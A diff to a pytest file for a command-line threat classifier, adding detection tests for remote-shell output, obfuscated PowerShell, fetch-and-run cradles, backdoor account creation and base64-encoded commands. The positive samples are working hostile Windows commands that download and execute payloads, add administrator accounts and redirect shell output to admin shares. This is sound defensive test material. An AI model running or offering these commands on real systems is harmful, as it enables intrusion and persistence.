@@ -1,10 +1,14 @@
-"""Feature version 1.1: lone-command indicators for the process-creation view, and the two-view recipe
-that keeps the full view's booster on 1.0's columns and rows."""
+"""Feature versions 1.1 and 1.2: lone-command indicators for the process-creation view, and the
+two-view recipe that keeps the full view's booster on 1.0's columns and rows."""
 
 from __future__ import annotations
 
+import base64
+import dataclasses
+import json
 import re
 import time
+from pathlib import Path
 
 import numpy as np
 import pytest
@@ -19,13 +23,22 @@ from pipeline.indicators import (
     LINEAR_FROM,
     LONE_INDICATOR_NAMES,
     LONE_INDICATORS,
+    encoded_text,
     indicator_mask,
     linear_form,
     lone_indicator_names,
     lone_mask,
 )
 from pipeline.model.routed import lone_rows
-from pipeline.training.dataset import LONE_VIEW, DataConfig, Dataset, build_dataset
+from pipeline.training.dataset import (
+    LONE_VIEW,
+    DataConfig,
+    Dataset,
+    StaleCache,
+    build_dataset,
+    load_dataset,
+    save_dataset,
+)
 from pipeline.training.simulate import SimConfig
 from pipeline.training.split import CALIB, TRAIN
 from pipeline.training.train import TrainConfig, fit, fit_views, predict, widen
@@ -104,6 +117,35 @@ POSITIVES: dict[str, list[str]] = {
     "relay_admin_port": [
         "netsh interface portproxy add v4tov4 listenport=8443 connectport=445 connectaddress=10.1.1.5"
     ],
+    "remote_shell_output": [
+        "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1718034412.55 2>&1",
+        "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat",
+        "C:\\Windows\\system32\\cmd.exe  /Q /c C:\\Windows\\TEMP\\execute.bat ",
+        "cmd.exe /C tasklist > C:\\Windows\\Temp\\rAnDoMzZ.tmp 2>&1",
+    ],
+    "dynamic_invoke": [
+        "powershell -c \" -JOIN('73A69'.sPlIT('A')|%{([iNt] $_ -AS [char])})"
+        "| .( $ENv:comsPec[4,26,25]-JOIn'')\"",
+        "powershell \"($PSHome[4]+$PSHome[30]+'x') ('Write-Host 1')\"",
+        "powershell \"&( $ShellId[1]+$ShellId[13]+'x') ('dir')\"",
+        "powershell \"( $VerbosePreference.ToString()[1,3]+'x'-Join'') ('dir')\"",
+        "powershell \"&([char]105+[char]101+[char]120) 'dir'\"",
+    ],
+    "fetch_and_run": [
+        "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')\"",
+        "powershell iwr -useb http://203.0.113.5/x | iex",
+        "powershell \"(New-Object Net.WebClient).DownloadFile('http://x/a.exe','C:\\Users\\Public\\a.exe');"
+        "Start-Process 'C:\\Users\\Public\\a.exe'\"",
+        "cmd /c bitsadmin /transfer j /download http://x/a.exe C:\\Users\\Public\\a.exe "
+        "& C:\\Users\\Public\\a.exe",
+        "cmd /c certutil -urlcache -split -f http://x/a.dll a.dll && rundll32 a.dll,Start",
+    ],
+    "account_add": [
+        "net user backdoor P@ssw0rd1 /add",
+        "net1 localgroup administrators backdoor /add",
+        'net group "Domain Admins" eve /add /domain',
+        "powershell New-LocalUser -Name x -Password $p",
+    ],
     "writable_config_target": [
         'netsh advfirewall firewall add rule name=u dir=in action=allow program="C:\\Users\\Public\\u.exe"',
         'schtasks /create /tn u /tr "C:\\Users\\bob\\AppData\\Roaming\\u.exe" /sc daily',
@@ -131,6 +173,12 @@ ORDINARY = [
     "setspn -L svc_sql",
     "git -c core.quotepath=false status --porcelain",
     "/usr/bin/python3 -m pytest tests/unit",
+    "net user jdoe",
+    "net localgroup administrators",
+    'cmd.exe /c "C:\\Program Files\\Acme\\setup.bat" > C:\\Windows\\Temp\\acme_install.log 2>&1',
+    "powershell -c \"-join ((65..90) + (97..122) | Get-Random -Count 12 | % {[char]$_})\"",
+    "powershell -c \"Invoke-WebRequest https://example.com/report.csv -OutFile C:\\Temp\\report.csv\"",
+    "powershell -c \"$p = Get-Process; $p | Select-Object Name\"",
 ]
 
 
@@ -148,8 +196,44 @@ def test_everyday_admin_and_installer_commands_carry_no_lone_indicator(text: str
     assert lone_indicator_names(lone_mask(text)) == ()
 
 
+def _encoded(script: str) -> str:
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize("flag", ["-e", "-ec", "-En", "-enc", "-EncodedCommand", "/enc"])
+def test_an_encoded_command_is_read_as_what_it_decodes_to(flag: str) -> None:
+    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')"
+    line = f"powershell.exe -nop -w hidden {flag} {_encoded(cradle)}"
+    assert encoded_text(line) == cradle
+    assert "fetch_and_run" in lone_indicator_names(lone_mask(line))
+
+
+def test_an_encoded_command_inside_an_encoded_command_is_decoded_too() -> None:
+    inner = "net user eve Winter2024! /add"
+    outer = f"powershell -enc {_encoded(inner)}"
+    assert lone_indicator_names(lone_mask(f"powershell -ec {_encoded(outer)}")) == ("account_add",)
+
+
+def test_arguments_that_are_not_an_encoded_script_are_left_alone() -> None:
+    noise = base64.b64encode(bytes(range(1, 250, 3)) * 4).decode()
+    assert encoded_text(f"powershell -enc {noise}") == ""  # random bytes, not UTF-16 text
+    not_encoded = f"powershell -ExecutionPolicy {_encoded('net user x y /add')}"
+    assert encoded_text(not_encoded) == ""  # not -EncodedCommand
+    assert encoded_text(f"tool.exe -e {_encoded('net user x y /add')[:-3]}!!") != ""  # trailing junk is cut
+    assert lone_mask(f"powershell -enc {_encoded('Get-Service W32Time')}") == 0
+
+
+def test_a_hostile_encoded_argument_costs_time_linear_in_its_length() -> None:
+    huge = "powershell -enc " + _encoded("iex " * 200_000)
+    many = " ".join(f"-e {_encoded('net user a b /add')}" for _ in range(20_000))
+    for text in (huge, many):
+        started = time.perf_counter()
+        lone_mask(text)
+        assert time.perf_counter() - started < 2.0
+
+
 def test_the_lone_columns_come_after_every_column_of_the_base_version() -> None:
-    assert BASE_FEATURE_VERSION == "1.0" and features.FEATURE_VERSION == "1.1"
+    assert BASE_FEATURE_VERSION == "1.0" and features.FEATURE_VERSION == "1.2"
     assert all(not name.startswith("lone_") for name in FEATURE_NAMES[:N_BASE_FEATURES])
     assert all(name.startswith("lone_") for name in FEATURE_NAMES[N_BASE_FEATURES:])
     assert N_FEATURES - N_BASE_FEATURES == 2 * len(LONE_INDICATOR_NAMES)
@@ -194,6 +278,23 @@ def tiny() -> Dataset:
     return build_dataset(DataConfig(otrf_root=None, captures=None, sim=sim))
 
 
+def test_a_cached_dataset_of_another_feature_version_is_refused(tiny: Dataset, tmp_path: Path) -> None:
+    cache = tmp_path / "data.npz"
+    save_dataset(tiny, cache)
+    assert load_dataset(cache).matrix.shape == tiny.matrix.shape
+    meta = json.loads(cache.with_suffix(".json").read_text())
+    cache.with_suffix(".json").write_text(json.dumps({**meta, "feature_version": "1.1"}))
+    with pytest.raises(StaleCache, match=r"feature version 1\.1 rows"):
+        load_dataset(cache)
+    narrow = dataclasses.replace(tiny, matrix=tiny.matrix[:, :N_BASE_FEATURES])
+    save_dataset(narrow, cache)
+    meta = json.loads(cache.with_suffix(".json").read_text())
+    del meta["feature_version"]  # written before the version was recorded: judged by its columns
+    cache.with_suffix(".json").write_text(json.dumps(meta))
+    with pytest.raises(StaleCache, match=f"{N_BASE_FEATURES} columns"):
+        load_dataset(cache)
+
+
 def test_a_widened_booster_scores_every_row_as_it_did_on_its_own_columns(tiny: Dataset) -> None:
     import xgboost
 
@@ -232,6 +333,8 @@ def test_the_full_booster_never_sees_the_lone_view_simulations_or_the_lone_colum
 HOSTILE_WORDS = [
     "netsh firewall ", "netsh advfirewall firewall ", "/v x /d ", "invoke-command {", "auditpol /set ",
     "binpath= ", "winrs -r:h ", "curl |", "openssl enc -e ", "reg add /v a /d ", "schtasks /create ",
+    "cmd /q /c %x%\\", "| .( $", "$pshome[", "net user /add ", "iex downloadfile ", "[char]1+",
+    "\\\\127.0.0.1\\admin$\\", "-e QQBBAEEA ",
 ]  # fmt: skip
 
 
